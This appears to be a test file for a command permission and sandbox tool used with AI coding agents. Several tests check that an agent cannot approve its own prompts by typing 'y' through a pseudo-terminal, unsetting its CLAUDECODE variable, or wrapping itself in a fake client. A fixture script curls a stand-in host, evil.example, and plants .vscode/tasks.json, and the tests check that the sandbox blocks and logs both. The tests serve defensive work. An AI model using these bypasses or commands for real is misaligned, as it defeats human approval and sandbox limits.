import { execFileSync, spawnSync } from 'node:child_process'
import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { whyNoBash } from '../oracle/sandbox.ts'
import { bundledCli, type Cli, openCli, startProcess } from './cli.ts'

const missing = whyNoBash()
const python = '/usr/bin/python3'
const tmux = '/usr/bin/tmux'

/** Opens a terminal as a program does, starts the words in it, and types `y` into it all the time. */
const typist = `
import os, pty, select, sys, time
pid, fd = pty.fork()
if pid == 0: os.execvp(sys.argv[1], sys.argv[1:])
end = time.time() + 60
while time.time() < end:
    try:
        if select.select([fd], [], [], 0.2)[0]:
            data = os.read(fd, 4096)
            if not data: break
            sys.stdout.buffer.write(data); sys.stdout.flush()
        else: os.write(fd, b'y\\n')
    except OSError: break
`

describe.skipIf(missing !== null)('sallyport run at a terminal', () => {
  let cli: Cli
  let program = ''
  beforeAll(async () => {
    cli = await openCli()
    program = await bundledCli()
    cli.write('made-up-tool', '#!/bin/sh\necho it ran > ran.txt\n')
    execFileSync('chmod', ['755', join(cli.project, 'made-up-tool')])
    cli.write('typist.py', typist)
    cli.write(
      '../home/.config/sallyport/policy.yaml',
      'version: 1\nrules:\n  - { when: { run: ./made-up-tool }, then: ask }\n',
    )
  })
  afterEach(() => cli.write('ran.txt', ''))
  afterAll(() => cli.remove())

  const hasRun = () =>
    existsSync(join(cli.project, 'ran.txt')) && readFileSync(join(cli.project, 'ran.txt'), 'utf8') !== ''
  const words = () => [process.execPath, program, 'run', '--', './made-up-tool']
  const byProgram = (env: Readonly<Record<string, string>>, ...before: readonly string[]) =>
    startProcess([python, 'typist.py', ...before, ...words()], { stdin: '', env: { TERM: 'dumb', ...env } }, cli)

  test.skipIf(!existsSync(tmux))('a person in tmux is asked, and the answer counts', async () => {
    const env = { PATH: process.env['PATH'] ?? '', HOME: cli.home, TERM: 'xterm', SHELL: '/bin/sh' }
    const at = (...args: readonly string[]) =>
      spawnSync(tmux, ['-f', '/dev/null', '-S', join(cli.home, 'tmux.sock'), ...args], {
        cwd: cli.project,
        env,
        encoding: 'utf8',
      })
    const line = words()
      .map(word => `'${word}'`)
      .join(' ')
    at('new-session', '-d', '-x', '200', '-y', '50', 'sh')
    at('send-keys', `${line}; echo ended $?`, 'Enter')
    const shown = () => at('capture-pane', '-p', '-J').stdout
    await until(() => /a allow once|^ended/m.test(shown()))
    // Keys that arrive right after the question are dropped, so the person types more than once.
    await until(() => {
      if (!/^ended \d/m.test(shown())) at('send-keys', 'y', 'Enter')
      return /^ended \d/m.test(shown())
    })
    const text = shown()
    at('kill-server')
    expect(text).toContain('a allow once')
    expect(text).toMatch(/^ended 0/m)
    expect(hasRun()).toBe(true)
  })

  test.each<readonly [what: string, env: Readonly<Record<string, string>>, before: readonly string[]]>([
    ['a program that opens a terminal', {}, []],
    ['an agent that sets its variable', { CLAUDECODE: '1' }, []],
    ['an agent whose command removes the variable', { CLAUDECODE: '1' }, ['env', '-u', 'CLAUDECODE', '--']],
  ])('the `y` of %s does not count, and the reason is told', async (_what, env, before) => {
    const { out } = await byProgram(env, ...before)
    expect(out).toContain('no question was asked')
    expect(out).not.toContain('a allow once')
    expect(hasRun()).toBe(false)
  })

  test('a client above it is enough, on a terminal of `script` too', async () => {
    writeFileSync(join(cli.project, 'claude'), `#!/bin/sh\n"$@"\n`, { mode: 0o755 })
    const line = ['./claude', ...words()].map(word => `'${word}'`).join(' ')
    const { out } = await startProcess(
      ['script', '-qec', line, '/dev/null'],
      { stdin: 'y\ny\n', env: { TERM: 'dumb' } },
      cli,
    )
    expect(out).toContain('no question was asked')
    expect(hasRun()).toBe(false)
  })
})

describe.skipIf(missing !== null)('what ran in the fence', () => {
  let cli: Cli
  beforeAll(async () => {
    cli = await openCli()
    cli.write('try.sh', 'curl -s -m 5 http://evil.example/x\nmkdir .vscode\necho {} > .vscode/tasks.json\n')
    await cli.run({ args: ['run', '--yes', '--', 'sh', 'try.sh'] })
    cli.write('../home/.config/sallyport/policy.yaml', 'version: 1\nfence: { limits: { seconds: 1 } }\n')
    await cli.run({ args: ['run', '--yes', '--', 'sleep', '30'] })
  })
  afterAll(() => cli.remove())

  const out = async (...args: readonly string[]) => (await cli.run({ args })).out

  test('audit tail shows the profile, the plan, and what was held back', async () => {
    const text = await out('audit', 'tail', '--records', '-n', '50')
    expect(text).toMatch(/started +shell_exec {2}fenced: balanced, plan [0-9a-f]{12}$/m)
    expect(await out('audit', 'tail', '-n', '50', '--json')).toContain('{"by":"network","what":"evil.example:80"}')
    expect(text).toMatch(/finished +shell_exec .*held back: access to evil\.example/)
    expect(text).toMatch(/finished +shell_exec .*held back: over the limit of sec/)
  })

  test('audit report counts both', async () => {
    expect(await out('audit', 'report')).toContain('2 commands ran in the fence, 0 without it')
    expect(JSON.parse(await out('audit', 'report', '--json')).fence).toMatchObject({
      fenced: 2,
      held: expect.arrayContaining([
        { count: 1, by: 'network', what: 'evil.example:80' },
        { count: 1, by: 'limit', what: 'seconds' },
        { count: 1, by: 'name', what: expect.stringMatching(/\/\.vscode/) },
      ]),
    })
  })

  test('status shows the last day', async () => {
    const text = await out('status')
    expect(text).toContain('2 commands in the fence; 3 held back')
    expect(await out('status', '--all')).toContain('held back 1 time: access to evil.example:80')
  })
})

/** Waits for at most a minute. */
async function until(holds: () => boolean): Promise<void> {
  for (let tries = 0; !holds() && tries < 600; tries += 1) await new Promise(resolve => setTimeout(resolve, 100))
  expect(holds()).toBe(true)
}
